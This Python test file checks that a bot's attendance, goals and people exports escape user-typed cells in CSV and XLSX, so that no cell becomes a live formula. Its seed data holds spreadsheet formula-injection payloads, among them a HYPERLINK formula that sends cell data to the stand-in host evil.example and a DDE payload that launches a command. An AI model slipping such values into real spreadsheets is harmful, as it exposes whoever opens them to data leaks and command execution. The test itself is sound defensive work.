"""Every export goes through one escaping writer (bot/spreadsheet.py): no cell a person typed runs
as a formula, in any export (attendance, goals, people, and any registered later), CSV or
XLSX."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from pathlib import Path

from openpyxl import load_workbook

from bot.exports import EXPORTERS
from bot.schedule import Schedule
from bot.storage import Repository

NOW = datetime(2021, 3, 20, 12, tzinfo=UTC)
HYPERLINK = '=HYPERLINK("http://evil.example/?q="&A1,"Click me")'
DDE = "=cmd|' /C calc'!A0"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
HOSTILE = [HYPERLINK, DDE, "+1+2", "-3+4", "@SUM(A1:A2)", "\tTab", "Bell\x07name"]


async def seed(repo: Repository) -> None:
    for i, text in enumerate(HOSTILE, start=1):
        await repo.participants.ensure(i, first_name=text, last_name=None, username=None,
                                       now=NOW)
        await repo.participants.update(i, NOW, grp="core", country="GH", onboarded=1,
                                       organization=DDE if i == 1 else text)
    await repo.attendance.correct(1, 0, "present", HYPERLINK, 2, NOW)
    goal = await repo.goals.add_goal("GH", HYPERLINK, DDE, None, 1, NOW)
    await repo.goals.add_step(goal, "+step", DDE, None, None, 1, NOW)
    await repo.goals.add_note(goal, "@note", 1, NOW)


async def test_no_export_has_a_live_formula(tmp_path: Path, schedule: Schedule) -> None:
    repo = await Repository.open(tmp_path / "db.sqlite3")
    try:
        await seed(repo)
        for kind, export in EXPORTERS.items():
            await export(repo, schedule, "csv", tmp_path / f"{kind}.csv")
            await export(repo, schedule, "xlsx", tmp_path / f"{kind}.xlsx")
    finally:
        await repo.close()
    for kind in EXPORTERS:
        book = load_workbook(tmp_path / f"{kind}.xlsx")
        texts = [c for sheet in book for row in sheet.iter_rows() for c in row
                 if isinstance(c.value, str)]
        assert not [c.coordinate for c in texts if c.data_type != "s"], kind
        text = (tmp_path / f"{kind}.csv").read_text(encoding="utf-8-sig")
        live = [cell for row in csv.reader(io.StringIO(text)) for cell in row
                if cell.startswith(FORMULA_STARTS) and not cell.lstrip("-").replace(".", "")
                .isdigit()]
        assert live == [], kind

    people = load_workbook(tmp_path / "people.xlsx")["people"]
    header = [c.value for c in people[1]]
    (first,) = [{h: c for h, c in zip(header, row, strict=True)} for row in people.iter_rows()
                if row[0].value == 1]
    assert first["name"].value == HYPERLINK and first["name"].data_type == "s"
    assert first["organization"].value == DDE and first["organization"].data_type == "s"
    rows = list(csv.DictReader(io.StringIO(
        (tmp_path / "people.csv").read_text(encoding="utf-8-sig"))))
    by_id = {r["user_id"]: r for r in rows}
    assert (by_id["1"]["name"], by_id["1"]["organization"]) == ("'" + HYPERLINK, "'" + DDE)
    assert by_id["7"]["name"] == "Bell\x07name"  # CSV keeps it; XLSX drops what it cannot hold
